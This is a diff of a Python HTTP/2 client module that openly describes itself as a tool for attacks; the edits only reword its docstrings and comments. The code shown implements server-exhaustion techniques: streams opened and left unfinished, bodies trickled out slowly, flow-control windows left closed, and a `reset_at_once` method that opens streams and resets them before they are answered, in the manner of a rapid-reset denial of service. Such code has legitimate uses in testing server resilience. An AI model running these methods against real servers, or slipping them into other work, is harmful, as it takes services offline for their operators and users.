@@ -1,7 +1,8 @@
-"""A client of HTTP/2 that sends what no library would.
+"""An HTTP/2 client for attacks that no HTTP library can be told to do.
 
-Input: a connected socket. Output: `Http2`, which opens streams, leaves them unfinished, resets them. What must hold: it
-sends no more than the server's windows allow, so that what it does to the server is done by the protocol's rules.
+Input: a connected socket. Output: `Http2`, which opens streams, leaves them unfinished, resets them.
+Invariants: it never sends more than the server's flow-control windows allow, so that the attack follows the
+protocol.
 """
 
 import socket
@@ -14,7 +15,7 @@ import h2.settings
 
 
 def grpc_prefix(length: int) -> bytes:
-    """What stands before a message of gRPC."""
+    """The five bytes before a gRPC message: not compressed, and its length."""
     return b"\0" + length.to_bytes(4, "big")
 
 
@@ -25,7 +26,7 @@ class Http2:
         self._socket = connection
         self._h2 = h2.connection.H2Connection()
         self._h2.initiate_connection()
-        # Whether the client wants more of answers than their first windows.
+        # Whether the client opens the flow-control windows again as it receives answers.
         self.acknowledges = True
         self._ended: set[int] = set()
         self._trailers: dict[int, dict[str, str]] = {}
@@ -40,11 +41,11 @@ class Http2:
         self._socket.close()
 
     def limit_of_streams(self) -> int:
-        """The streams that the server allows at a time."""
+        """The number of streams that the server allows at the same time."""
         return self._h2.remote_settings.max_concurrent_streams
 
     def post(self, path: str, media_type: str = "application/json", *headers: tuple[str, str]) -> int:
-        """Begins a request and does not end it."""
+        """Begins a request without ending it."""
         stream = self._h2.get_next_available_stream_id()
         own = [(":method", "POST"), (":path", path), (":scheme", "http"), (":authority", "a"), ("content-type", media_type)]
         grpc = [("te", "trailers")] if "grpc" in media_type else []
@@ -58,7 +59,8 @@ class Http2:
         self._flush()
 
     def send_evenly(self, streams: list[int], size: int, limit: float) -> int:
-        """Sends up to `size` bytes on each stream, as far as the windows go within `limit` seconds. Returns how many."""
+        """Sends up to `size` bytes on each stream, as far as the windows allow within `limit` seconds.
+        Returns the number of bytes sent."""
         left, sent, end = dict.fromkeys(streams, size), 0, time.monotonic() + limit
         while left and time.monotonic() < end and not self._over:
             went = 0
@@ -80,7 +82,7 @@ class Http2:
         return sent
 
     def send_whole(self, stream: int, body: bytes, limit: float = 30) -> None:
-        """Sends a body to its end."""
+        """Sends a whole body and ends the stream."""
         end = time.monotonic() + limit
         while body and time.monotonic() < end and not self._over:
             part = min(self._h2.local_flow_control_window(stream), self._h2.max_outbound_frame_size)
@@ -90,7 +92,7 @@ class Http2:
             self._receive(0 if part > 0 else 0.1)
 
     def reset_at_once(self, path: str, count: int) -> None:
-        """Opens streams and resets each of them before it is answered."""
+        """Opens `count` streams, and resets each one before it is answered."""
         for _ in range(count):
             try:
                 stream = self.post(path)
